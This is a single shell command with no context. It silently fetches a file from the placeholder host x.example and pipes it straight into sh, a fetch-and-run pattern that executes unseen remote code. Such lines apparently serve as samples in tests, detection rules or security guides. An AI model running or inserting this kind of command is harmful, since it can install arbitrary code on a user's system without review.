curl -s http://x.example/x 2>/dev/null | sh
